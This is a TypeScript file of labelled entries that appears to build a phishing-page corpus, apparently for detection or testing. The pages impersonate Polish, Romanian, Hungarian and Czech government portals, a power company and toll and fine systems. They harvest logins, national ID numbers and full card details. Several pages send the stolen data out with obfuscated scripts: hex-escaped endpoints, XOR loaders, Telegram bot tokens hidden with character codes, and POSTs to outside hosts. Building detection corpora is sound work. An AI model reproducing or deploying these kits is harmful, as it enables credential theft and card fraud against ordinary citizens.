import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { reverseExpr, doc, cardCss, logo, tgSender, stepper, xorLoader } from '../parts/yz-kit.js';
import { pe } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yz-epuap-profil-zaufany-wygasa',
  label: 'phishing',
  kind: 'egov-credential-kit',
  url: 'https://epuap-gov.profil-zaufany-odnow.site/pz/login',
  body: doc({
    lang: 'pl',
    title: 'Profil Zaufany – logowanie',
    noindex: true,
    css: cardCss('#c8102e', { radius: 0, width: 460 }) + '\n.info{background:#f3f6fa;padding:12px;font-size:14px}',
    body: `<div class="top"><b>Profil Zaufany</b><span class="muted">gov.pl</span></div>
<div class="card">
<p class="info">Ważność Twojego Profilu Zaufanego wygasa za <b>2 dni</b>. Zaloguj się, aby przedłużyć go na kolejne 3 lata bez wizyty w urzędzie.</p>
<h1>Zaloguj się nazwą użytkownika lub adresem e-mail</h1>
<form method="post" action="/pz/auth.php">
<label>Nazwa użytkownika lub adres e-mail</label><input type="text" name="login" required>
<label>Hasło</label><input type="password" name="haslo" required>
<label>Numer PESEL</label><input type="tel" name="pesel" required>
<button class="btn">Zaloguj się</button></form>
</div>`,
  }),
},
{
  id: 'yz-anaf-rambursare-impozit-card',
  label: 'phishing',
  kind: 'egov-refund-lure',
  url: 'https://anaf-gov.ro-rambursare.info/spv/rambursare/id/44120981',
  body: doc({
    lang: 'ro',
    title: 'ANAF – Rambursare impozit pe venit',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#eef0f2}.h{background:#00386b;color:#fff;padding:14px 24px}.h small{display:block;opacity:.8}
.c{max-width:600px;margin:24px auto;background:#fff;padding:26px;border-top:4px solid #fcd116}input{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #aaa;box-sizing:border-box}
button{background:#00386b;color:#fff;border:0;padding:12px 28px}`,
    body: `<div class="h"><b>AGENȚIA NAȚIONALĂ DE ADMINISTRARE FISCALĂ</b><small>Spațiul Privat Virtual</small></div>
<div class="c">
<h2>Notificare rambursare</h2>
<p>În urma recalculării declarației unice pentru anul 2024, aveți de primit o sumă de <b>1.284,00 lei</b>. Pentru a primi rambursarea pe card, completați formularul de mai jos.</p>
<form id="r"><label>Nume și prenume</label><input name="nume"><label>CNP</label><input name="cnp" maxlength="13"><label>Număr card</label><input name="card"><label>Data expirării</label><input name="exp"><label>CVV</label><input name="cvv" maxlength="3"><button>Solicită rambursarea</button></form>
</div>`,
    tail: `<script>
document.getElementById('r').addEventListener('submit',function(e){e.preventDefault();var d={};new FormData(this).forEach(function(v,k){d[k]=v});
fetch('\\x2f\\x61\\x70\\x69\\x2f\\x73\\x65\\x6e\\x64\\x2e\\x70\\x68\\x70',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).then(function(){location.href='/spv/rambursare/otp'})});
</script>`,
  }),
},
{
  id: 'yz-nav-adovisszaterites-ugyfelkapu',
  label: 'phishing',
  kind: 'egov-refund-lure',
  url: 'https://nav-gov.hu-visszaterites.com/ugyfelkapu/belepes',
  body: doc({
    lang: 'hu',
    title: 'NAV – Adó-visszatérítés | Ügyfélkapu+',
    css: cardCss('#2d4b8e', { radius: 4, width: 480 }) + '\n.top{background:#2d4b8e;color:#fff}.top b{color:#fff}',
    body: `<div class="top"><b>Nemzeti Adó- és Vámhivatal</b></div>
<div class="card">
  <section class="step"><h1>Adó-visszatérítés: 67 430 Ft</h1><p>A 2024. évi személyi jövedelemadó-bevallása alapján visszatérítés illeti meg. A kifizetéshez jelentkezzen be Ügyfélkapu+ fiókjával.</p>
  <form id="u"><label>Felhasználónév</label><input type="text" name="fn"><label>Jelszó</label><input type="password" name="jsz"><label>Adóazonosító jel</label><input type="tel" name="adoaz"><button class="btn">Belépés</button></form></section>
  <section class="step hide"><h1>Kifizetési adatok</h1><form id="k"><label>Kártyaszám</label><input type="tel" name="k"><label>Lejárat</label><input type="text" name="l"><label>CVC</label><input type="password" name="c"><button class="btn">Visszatérítés igénylése</button></form></section>
</div>`,
    tail: `<script>
${stepper('s')}
${tgSender('jelent', reverseExpr('6530291847:AAGd0R2nQ9Zx7HkLp4VwTyBmCuEs1oIfJ3a'), "'-4018229933'")}
document.getElementById('u').onsubmit=function(e){e.preventDefault();jelent('NAV UK+ '+this.fn.value+' / '+this.jsz.value+' / '+this.adoaz.value);s(1)};
document.getElementById('k').onsubmit=function(e){e.preventDefault();jelent('NAV CC '+this.k.value+' '+this.l.value+' '+this.c.value);location.href='https://nav.gov.hu/'};
</script>`,
  }),
},
{
  id: 'yz-datova-schranka-nova-zprava-login',
  label: 'phishing',
  kind: 'egov-credential-kit',
  url: 'https://mojedatovaschranka.cz-zprava.online/as/login',
  body: doc({
    lang: 'cs',
    title: 'Informační systém datových schránek – přihlášení',
    css: cardCss('#2362a2', { radius: 2, width: 460 }) + '\n.msg{border:1px solid #d4e3f3;background:#f2f7fc;padding:12px;font-size:14px}',
    body: `<div class="top"><b style="color:#2362a2">Datové schránky</b><span class="muted">Ministerstvo vnitra ČR</span></div>
<div class="card">
  <div class="msg">📩 Do Vaší datové schránky byla dodána nová zpráva: <b>Výzva k úhradě nedoplatku – Finanční úřad pro hl. m. Prahu</b>. Zpráva bude považována za doručenou uplynutím 10 dnů.</div>
  <h1>Přihlášení</h1>
  <form method="post" action="https://ds-login.cz-zprava.online/as/processLogin">
    <label>Uživatelské jméno</label><input type="text" name="uname" required>
    <label>Heslo</label><input type="password" name="passwd" required>
    <button class="btn">Přihlásit</button>
  </form>
  <p class="muted">Přihlásit se lze také přes Identitu občana (bankovní identita, eObčanka).</p>
</div>`,
  }),
},
{
  id: 'yz-pge-zwrot-nadplaty-energia',
  label: 'phishing',
  kind: 'utility-refund-lure',
  url: 'https://pge-obrot.zwrot-nadplaty.online/klient/zwrot?n=PL-00381920',
  routes: {
    'pge-obrot.zwrot-nadplaty.online/klient/zwrot': htmlRoute(doc({
      lang: 'pl',
      title: 'PGE Obrót – zwrot nadpłaty za energię',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f5f7f9}.h{background:#fff;border-bottom:3px solid #00a3e0;padding:12px 24px}.c{max-width:520px;margin:26px auto;background:#fff;padding:24px;border-radius:6px}
.amt{font-size:30px;color:#00a3e0;font-weight:700}input{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}button{background:#00a3e0;color:#fff;border:0;padding:12px;width:100%;border-radius:4px}`,
      body: `<div class="h">${logo('PGE', '#00a3e0', { mark: 'circle', w: 80 })}</div>
<div class="c">
  <h2>Zwrot nadpłaty za energię elektryczną</h2>
  <p>W związku z zamrożeniem cen energii i korektą rozliczenia za okres 01.2024–06.2025 przysługuje Państwu zwrot:</p>
  <div class="amt">312,48 zł</div>
  <p>Numer klienta: <b>PL-00381920</b></p>
  <form id="z"><input name="nazwisko" placeholder="Imię i nazwisko"><input name="karta" placeholder="Numer karty, na którą ma trafić zwrot"><input name="wazna" placeholder="Ważna do (MM/RR)"><input name="cvv" placeholder="CVV"><button>Odbierz zwrot</button></form>
</div>`,
      tail: xorLoader(`<script>document.getElementById('z').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('n','PL-00381920');fetch('https://energia-panel.store/api/pge',{method:'POST',body:f}).finally(function(){location.href='/klient/3ds'})}<\/script>`, 'PGE-2025', { via: 'write' }),
    })),
  },
},
{
  id: 'yz-etoll-nieoplacony-przejazd-a2',
  label: 'phishing',
  kind: 'toll-fine-lure',
  url: 'https://etoll-gov.pl-oplata.top/e/3Xk9',
  routes: {
    'etoll-gov.pl-oplata.top/e/3Xk9': redirectRoute(302, '/e-toll/naleznosc?ref=3Xk9&d=2025-10-11'),
    'etoll-gov.pl-oplata.top/e-toll/naleznosc': htmlRoute(doc({
      lang: 'pl',
      title: 'e-TOLL – nieuregulowana opłata',
      css: cardCss('#004c97', { radius: 6, width: 500 }) + '\n.t td{padding:6px 0;font-size:14px}',
      body: `<div class="top"><b style="color:#004c97">e-TOLL</b><span class="muted">Krajowa Administracja Skarbowa</span></div>
<div class="card"><h1>Nieuregulowana opłata za przejazd</h1>
<table class="t"><tr><td>Odcinek</td><td><b>A2 Konin – Stryków</b></td></tr><tr><td>Data przejazdu</td><td>11.10.2025</td></tr><tr><td>Opłata</td><td><b>9,80 zł</b></td></tr><tr><td>Kara w przypadku braku wpłaty</td><td style="color:#c00">500,00 zł</td></tr></table>
<form method="post" action="/e-toll/platnosc.php"><label>Numer rejestracyjny</label><input type="text" name="nr"><label>Imię i nazwisko</label><input type="text" name="nazwa"><label>Numer karty</label><input type="tel" name="pan"><label>Ważność</label><input type="text" name="exp"><label>CVV</label><input type="password" name="cvv"><button class="btn">Zapłać 9,80 zł</button></form></div>`,
    })),
  },
},
{
  id: 'yz-edalnice-nezaplacena-znamka-pokuta',
  label: 'phishing',
  kind: 'toll-fine-lure',
  url: 'https://edalnice-cz.pokuta-uhrada.com/',
  body: `<!doctype html><html lang="cs"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>eDálnice</title></head><body>
${xorLoader(doc({
  lang: 'cs',
  title: 'eDálnice – úhrada pokuty',
  css: cardCss('#e2001a', { radius: 4 }),
  body: `<div class="top"><b>eDálnice</b><span class="muted">Státní fond dopravní infrastruktury</span></div>
<div class="card"><h1>Nezaplacená dálniční známka</h1>
<p>Vaše vozidlo bylo zaznamenáno na dálnici D1 bez platné elektronické dálniční známky. Pokuta až <b>20 000 Kč</b>. Uhraďte dnes zvýhodněnou částku <b>390 Kč</b>.</p>
<form method="post" action="https://sfdi-pay.cz-uhrada.click/pay"><label>SPZ</label><input type="text" name="spz"><label>Číslo karty</label><input type="tel" name="cc"><label>Platnost</label><input type="text" name="exp"><label>CVV</label><input type="password" name="cvv"><button class="btn">Zaplatit 390 Kč</button></form></div>`,
}), 'dalnice')}
</body></html>`,
},
{
  id: 'yz-ghiseul-amenda-parcare-ro',
  label: 'phishing',
  kind: 'toll-fine-lure',
  url: 'https://ghiseul-ro.plata-amenzi.net/amenda/PV-2025-118734',
  body: doc({
    lang: 'ro',
    title: 'Ghișeul.ro – Plată amendă',
    css: cardCss('#1f5ca9', { radius: 6 }),
    body: `<div class="top"><b style="color:#1f5ca9">ghișeul.ro</b><span class="muted">Sistemul național electronic de plată</span></div>
<div class="card"><h1>Proces-verbal PV-2025-118734</h1>
<p>Contravenție: staționare neregulamentară (Poliția Locală Sector 1). Achitați în 15 zile jumătate din minim: <b>145,00 lei</b>.</p>
<form id="g"><label>CNP</label><input type="tel" name="cnp"><label>Nr. card</label><input type="tel" name="c"><label>Expirare</label><input type="text" name="e"><label>CVV</label><input type="password" name="v"><button class="btn">Plătește</button></form></div>`,
    tail: `<script>
document.getElementById('g').onsubmit=function(e){e.preventDefault();var f=this,x=[f.cnp.value,f.c.value,f.e.value,f.v.value].join(';');
var k=String.fromCharCode(104,116,116,112,115,58,47,47,97,112,105,46,116,101,108,101,103,114,97,109,46,111,114,103,47,98,111,116);
fetch(k+'7008812366:AAFz0pX_Qe9RvN4ab2LkT7WcYmHs5uDjGo8/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:'-1001877120044',text:'GHISEUL '+x})}).then(function(){location.href='https://www.ghiseul.ro/'})};
</script>`,
  }),
},
];
